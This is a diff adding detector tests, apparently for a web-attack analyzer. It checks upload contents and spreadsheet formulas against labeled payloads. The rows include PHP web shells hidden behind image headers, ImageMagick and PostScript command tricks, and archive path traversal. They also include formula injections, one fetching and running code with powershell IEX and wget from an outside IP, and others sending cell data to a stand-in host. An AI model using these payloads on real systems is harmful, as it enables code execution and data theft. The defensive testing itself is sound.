@@ -3,6 +3,7 @@
 
 #include "detect/analyze/file_inclusion.h"
 #include "detect/analyze/file_upload.h"
+#include "detect/analyze/formula.h"
 #include "detect/analyze/header_injection.h"
 #include "detect/analyze/hidden_path.h"
 #include "detect/analyze/ssrf.h"
@@ -198,6 +199,104 @@ TEST(AddressAndFile, PageCodeInFiles) {
   EXPECT_EQ(verdict_of(*analyzer, "<%@ page import=\"java.io.*\" %>", Location::kFile), "low");
   EXPECT_EQ(verdict_of(*analyzer, "<% Runtime.getRuntime().exec(\"id\"); %>", Location::kFile), "low");
   EXPECT_EQ(verdict_of(*analyzer, "50<%60 and %>", Location::kFile), "-");
+}
+
+// Of an archive: the header of an entry with such a name.
+std::string zip_entry(std::string_view name) {
+  std::string out = "PK\3\4";
+  out.append(22, '\0');
+  out += {static_cast<char>(name.size()), '\0', '\0', '\0'};
+  return out + std::string(name);
+}
+std::string tar_entry(std::string_view name) {
+  std::string out(name);
+  out.resize(257, '\0');
+  return out + "ustar\00000";
+}
+std::string windows_program() {
+  std::string out = "MZ";
+  out.resize(0x80, '\0');
+  out[0x3c] = static_cast<char>(0x80);
+  return out + "PE" + std::string(20, '\0');
+}
+
+struct ContentRow {
+  std::string text;
+  bool media;
+  const char* verdict;
+};
+
+TEST(AddressAndFile, ContentOfUploads) {
+  const auto analyzer = make_file_upload_analyzer();
+  const ContentRow rows[] = {
+      {"GIF89a;<?=`$_GET[0]`?>", true, "balanced"},
+      {"\xff\xd8\xff\xe0<?=$_REQUEST['a']($_POST['b'])?>", true, "balanced"},
+      {"<? @system ($_GET[0]) ?>", false, "balanced"},
+      {"<?= $title ?> <?= htmlspecialchars($name) ?>", false, "-"},
+      {"<?xml version='1.0'?><?xpacket begin=''?>", true, "-"},
+      {"<? if a ?>", true, "-"},
+      {windows_program(), true, "balanced"},
+      {windows_program(), false, "-"},
+      {"MZ\x90 This program cannot be run in DOS mode.", true, "balanced"},
+      {"MZ is a label", true, "-"},
+      {std::string("\x7f"
+                   "ELF\2\1\1\0",
+                   8),
+       true, "balanced"},
+      {std::string("\xca\xfe\xba\xbe\0\0\0\x34", 8), true, "balanced"},
+      {std::string("\xcf\xfa\xed\xfe\7\0\0\1", 8), true, "balanced"},
+      {"#!/usr/bin/env python\nimport os\n", true, "balanced"},
+      {"#! /bin/sh\nid\n", true, "balanced"},
+      {"#!/bin/sh\nid\n", false, "-"},
+      {"#!AMR\n\x3c\x91", true, "-"},
+      {"%!PS\nuserdict /setpagedevice undef\n", true, "balanced"},
+      {"%!PS-Adobe-3.0\n(%pipe%id) (w) file", false, "balanced"},
+      {"%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 1 1\n", true, "-"},
+      {"%!PS-Adobe-3.0 PDF-1.4\n", true, "-"},
+      {"push graphic-context\nviewbox 0 0 1 1\npop graphic-context", true, "balanced"},
+      {"a.mvg: push graphic-context\nfill 'url(https://e.example/|id\")'", false, "balanced"},
+      {"<image><read filename=\"caption:x\"/><write filename=\"/var/a.php\"/></image>", false, "balanced"},
+      {"<svg><image xlink:href=\"msl:/tmp/x\"/></svg>", true, "balanced"},
+      {"<svg><text>label: @me</text><a href=\"https://e.example/\"/></svg>", true, "-"},
+      {zip_entry("../../etc/x"), false, "balanced"},
+      {zip_entry("a/..\\..\\x"), false, "balanced"},
+      {zip_entry("a/b..c/x") + zip_entry("word/document.xml"), true, "-"},
+      {tar_entry("../x"), false, "balanced"},
+      {tar_entry("dir/x"), false, "-"},
+  };
+  for (const ContentRow& row : rows) {
+    FieldContext context;
+    context.location = Location::kFile;
+    context.media = row.media;
+    EXPECT_EQ(verdict_in(*analyzer, row.text, context), row.verdict) << row.text;
+  }
+}
+
+constexpr Row kFormulas[] = {
+    {"=cmd|'/c calc'!A1", "balanced"},
+    {"=cmd|' /C powershell IEX(wget 203.0.113.9/x)'!A0", "balanced"},
+    {"@SUM(1+1)*cmd|' /C calc'!A0", "balanced"},
+    {"-2+3+cmd|' /C notepad'!A0", "balanced"},
+    {"=MSEXCEL|'\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''", "balanced"},
+    {"id,name\n1,=rundll32|'URL.dll,OpenURL calc.exe'!A\n", "balanced"},
+    {"\"=10+20+cmd|'/C calc'!A0\"", "balanced"},
+    {"=WEBSERVICE(\"http://e.example/?\"&A1)", "balanced"},
+    {"=IMPORTXML(CONCAT(\"http://e.example/\",A1),\"//a\")", "balanced"},
+    {"=DDE(\"cmd\";\"/C calc\";\"x\")", "balanced"},
+    {"=HYPERLINK(\"http://e.example/\"&A1,\"x\")", "strict"},
+    {"=SUM(A1:A5)", "-"},
+    {"id,formula\n1,=SUM(A1:A5)\n2,=A1&\"x\"\n3,-5+3\n", "-"},
+    {"a|'b'!c", "-"},
+    {"| cmd|'x'! |", "-"},
+    {"the webservice(s) of cmd|'x'!A1", "-"},
+    {"x = call('a')", "-"},
+    {"+1 (555) 123|4567", "-"},
+    {"@name said: call(\"me\")", "-"},
+};
+TEST(AddressAndFile, Formulas) {
+  const auto analyzer = make_formula_analyzer();
+  expect_rows(*analyzer, kFormulas);
+  expect_rows(*analyzer, kFormulas, Location::kFile);
 }
 
 TEST(UrlReader, Hosts) {
